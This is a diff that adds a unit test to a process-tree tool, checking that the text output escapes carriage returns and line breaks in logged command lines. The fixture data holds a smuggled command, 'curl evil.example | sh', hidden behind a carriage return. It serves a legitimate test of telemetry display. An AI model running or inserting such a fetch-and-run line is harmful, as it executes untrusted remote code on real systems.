@@ -393,6 +393,20 @@ describe("buildProcessTree rules", () => {
     for (const id of ids) assert.ok(text.includes(`[${id}]`), text);
   });
 
+  it("treeToText shows a line break or carriage return in a command line as an escape (it was a space), spaces and tabs as one space", () => {
+    const schema = { name: "raw", processName: "exe", processId: "pid", parentId: "ppid", timeStamp: "ts", cmdLine: "cmd", pathSeparator: "/" };
+    const df = pl.DataFrame({
+      ts: [new Date("2024-03-01T10:00:00Z"), new Date("2024-03-01T10:00:01Z")],
+      exe: ["/bin/bash", "/usr/bin/id"],
+      pid: [10, 11],
+      ppid: [1, 10],
+      cmd: ["bash  \t -c", "echo safe\rcurl evil.example | sh\nx"],
+    });
+    const lines = ptree.treeToText(buildProcessTree(df, { schema })).split("\n");
+    assert.ok(lines.some((l) => l.endsWith("  bash -c")), lines.join("\n"));
+    assert.ok(lines.some((l) => l.endsWith("  echo safe\\rcurl evil.example | sh\\nx")), lines.join("\n"));
+  });
+
   it("treeToText labels each process from the schema the tree was built with (custom, ECS), not its proc_key", () => {
     const custom = pl.DataFrame({ t: ["2024-01-01 10:00:00", "2024-01-01 10:00:01"], img: ["/a", "/b"], p: [1, 2], pp: [0, 1], cl: ["a -x", "b  -y"] });
     const tree = buildProcessTree(custom, { schema: { processName: "img", processId: "p", parentId: "pp", timeStamp: "t", cmdLine: "cl" } });
